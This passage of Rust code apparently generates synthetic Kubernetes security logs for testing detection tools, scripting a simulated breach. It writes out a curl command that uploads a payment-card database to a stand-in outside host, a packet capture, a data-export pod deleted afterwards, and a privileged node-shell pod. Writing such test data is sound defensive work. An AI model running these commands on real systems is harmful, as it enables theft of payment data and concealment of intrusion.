        args: "-namespace k8s.io".into(),
        start: t0 - S,
    };
    let sh = r.exec(target, t0 + S / 4, "/bin/sh", "", Some(&shim))?;
    let curl_args =
        "-s -X POST --data-binary @/var/lib/payments/cards.db https://203.0.113.50/upload";
    let curl = r.exec(target, t0 + 12 * S, "/usr/bin/curl", curl_args, Some(&sh))?;
    r.connect(target, t0 + 12 * S + S / 100, &curl, "203.0.113.50", 443)?;
    r.exit(target, t0 + 15 * S, &curl)?;
    let tcpdump_args = "-i any -w /tmp/cap.pcap port 5432";
    let tcpdump = r.exec(
        target,
        t0 + 20 * S,
        "/usr/sbin/tcpdump",
        tcpdump_args,
        Some(&sh),
    )?;
    r.falco(
        t0 + 20 * S + S / 10,
        target,
        "Packet socket created in container",
        "Notice",
        "Packet socket was created in a container",
        json!({"proc.name": "tcpdump", "proc.exepath": "/usr/sbin/tcpdump",
               "proc.cmdline": format!("tcpdump {tcpdump_args}"), "evt.type": "socket", "user.uid": 0}),
    )?;
    r.exit(target, t0 + 50 * S, &tcpdump)?;
    r.exit(target, t0 + 60 * S, &sh)?;

    // A pod that sends the export out, then is deleted by hand.
    let leak = r.c.add_pod(export_w, None, t0 + 70 * S);
    let leak_name = r.c.pods[leak].name.clone();
    let leak_ns = r.c.pods[leak].namespace;
    let id = r.c.rng.uuid();
    r.audit(
        t0 + 70 * S,
        &Request::pod(&id, "create", user, leak_ns, &leak_name, 201),
    )?;
    let args = "/app/export.py --full --to https://198.51.100.77/drop";
    let export = r.exec(leak, t0 + 72 * S, "/usr/local/bin/python3", args, None)?;
    r.connect(leak, t0 + 73 * S, &export, "198.51.100.77", 443)?;
    r.exit(leak, t0 + 90 * S, &export)?;
    let id = r.c.rng.uuid();
    r.audit(
        t0 + 95 * S,
        &Request::pod(&id, "delete", user, leak_ns, &leak_name, 200),
    )?;
    r.c.delete(leak);

    // A privileged pod with the host's PID namespace, started by the same user.
    let debug_w = WORKLOADS
        .iter()
        .position(|w| w.name == "node-exporter")
        .expect("daemonset");
    let privileged = r.c.add_pod(debug_w, Some(0), t0 + 120 * S);
    let name = format!("node-shell-{}", r.c.rng.suffix(5));
    {
        let p = &mut r.c.pods[privileged];
        p.privileged = true;
        p.name = name.clone();
        p.namespace = "kube-system";
    }
    let id = r.c.rng.uuid();
    r.audit(
        t0 + 120 * S,
        &Request::pod(&id, "create", user, "kube-system", &name, 201),
    )?;
    r.falco(
        t0 + 125 * S,
        privileged,
        "Launch Privileged Container",
        "Info",
        "Privileged container started",
        json!({"proc.name": "node_exporter", "proc.exepath": "/bin/node_exporter",
               "container.privileged": true, "evt.type": "container"}),
    )?;
    r.c.reweigh();
    Ok((leak_name, name))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_bytes() {
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        let cfg = Config::new(7, 5_000);
        let sa = generate(a.path(), &cfg).unwrap();
        let sb = generate(b.path(), &cfg).unwrap();
        assert_eq!(sa.records, sb.records);
        for (x, y) in sa.files.iter().zip(&sb.files) {
            assert_eq!(
                std::fs::read(x).unwrap(),
                std::fs::read(y).unwrap(),
                "{}",
                x.display()
            );
        }
        let other = tempfile::tempdir().unwrap();
        let so = generate(other.path(), &Config::new(8, 5_000)).unwrap();
        assert_ne!(
            std::fs::read(&so.files[2]).unwrap(),
            std::fs::read(&sa.files[2]).unwrap()
        );
        assert!(sa.records >= 5_000, "{}", sa.records);
    }

    #[test]
    fn tetragon_lines_lead_with_the_event_as_tetragon_writes_them() {
        let dir = tempfile::tempdir().unwrap();
        generate(dir.path(), &Config::new(7, 2_000)).unwrap();
        let text = std::fs::read_to_string(dir.path().join("tetragon.jsonl")).unwrap();
        let mut lines = 0;
        for line in text.lines() {
            let v: Value = serde_json::from_str(line).unwrap();
            let event = line[2..].split('"').next().unwrap();
            assert!(event.starts_with("process_"), "{line}");
            assert!(v[event].is_object() && v["node_name"].is_string() && v["time"].is_string());
            lines += 1;
        }
        assert!(lines > 1_000, "{lines}");
    }

    #[test]
    fn timestamps_and_ids() {
        assert_eq!(
            rfc3339(1_795_564_800_000_000_000),
            "2026-11-25T00:00:00.000000000Z"
        );
        assert_eq!(
            rfc3339(951_782_400_123_456_789),
            "2000-02-29T00:00:00.123456789Z"
        );
        assert_eq!(exec_id("worker-1", 3800, 5020), "d29ya2VyLTE6MzgwMDo1MDIw");
    }
}
